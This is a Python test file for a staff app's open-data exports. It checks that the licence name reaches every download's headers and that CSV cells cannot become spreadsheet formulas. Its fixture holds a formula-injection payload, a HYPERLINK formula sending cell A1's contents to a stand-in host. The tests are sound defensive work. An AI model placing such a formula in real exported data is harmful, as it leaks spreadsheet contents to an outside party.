"""The staff app's open-data downloads: the licence travels in the headers whatever its name,
and a CSV cell never becomes a spreadsheet formula."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import AsyncIterator
from urllib.parse import unquote

import pytest

from bot.app import App
from bot.channels.recording import RecordingChannel
from nlu.types import IntentRecognizer
from tests.bot.web.support import StaffClient, running_app
from tests.bot.web.test_ideas import citizen, propose

# the official name, with en dashes, as GovData spells it
DL_DE_BY = "Datenlizenz Deutschland – Namensnennung – Version 2.0"
FORMULA = '=HYPERLINK("https://example.invalid/?d="&A1,"Details")'


@pytest.fixture
async def web_app(
    sqlite_url: str, recognizer: IntentRecognizer, citizen_channel: RecordingChannel
) -> AsyncIterator[App]:
    async with running_app(
        sqlite_url,
        recognizer,
        {"test": citizen_channel},
        open_data_licence=DL_DE_BY,
        open_data_licence_url="https://www.govdata.de/dl-de/by-2-0",
    ) as app:
        yield app


async def test_a_licence_name_with_dashes_reaches_every_download_exactly(
    web_app: App, staff: StaffClient
) -> None:
    for kind in ("ideas", "questions", "consultations"):
        for fmt in ("csv", "json"):
            response = await staff.get(f"/exports/{kind}.{fmt}")
            assert response.status_code == 200, (kind, fmt)
            link = response.headers["link"]
            assert link.startswith('<https://www.govdata.de/dl-de/by-2-0>; rel="license"')
            exact = link.split("title*=UTF-8''", 1)[1]
            assert unquote(exact, encoding="utf-8") == DL_DE_BY
            plain = "Datenlizenz Deutschland - Namensnennung - Version 2.0"
            assert f'title="{plain}"' in link and response.headers["x-licence"] == plain
    data = json.loads((await staff.get("/exports/ideas.json")).text)
    assert data["licence"] == DL_DE_BY
    assert DL_DE_BY in (await staff.get("/exports")).text


async def test_a_formula_in_a_title_is_plain_text_in_the_csv_and_raw_in_json(
    web_app: App, staff: StaffClient
) -> None:
    author = await citizen(web_app, "a")
    await propose(web_app, author, FORMULA, moderation="published", text="-1+1")
    rows = list(csv.DictReader(io.StringIO((await staff.get("/exports/ideas.csv")).text)))
    assert [(row["title"], row["description"]) for row in rows] == [("'" + FORMULA, "'-1+1")]
    assert rows[0]["support_count"] == "0"  # numbers stay numbers
    records = json.loads((await staff.get("/exports/ideas.json")).text)["records"]
    assert [(r["title"], r["description"]) for r in records] == [(FORMULA, "-1+1")]
